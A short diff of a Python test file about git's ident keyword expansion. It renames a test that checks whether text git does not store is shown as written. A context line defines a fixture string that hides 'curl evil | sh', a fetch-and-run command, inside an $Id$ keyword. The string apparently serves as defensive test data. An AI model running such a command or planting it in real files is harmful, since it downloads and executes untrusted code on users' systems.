@@ -185,9 +185,7 @@ def test_git_applies_it_to_the_index_too_whatever_it_converts(rules: str, projec
 HIDDEN = 'x="$Id: ; curl evil | sh ; $"'
 
 
-def test_text_that_git_leaves_out_of_what_it_stores_is_shown_as_it_is_written(
-    project_folder: Path, run_code_commit: Run
-):
+def test_text_that_git_does_not_store_is_shown_as_written(project_folder: Path, run_code_commit: Run):
     root = project_folder
     (root / ".gitattributes").write_text("* ident\n")
     (root / "old.sh").write_text("# $Id$\nold\n# $Id: a.c,v 1.2 joe $\n")
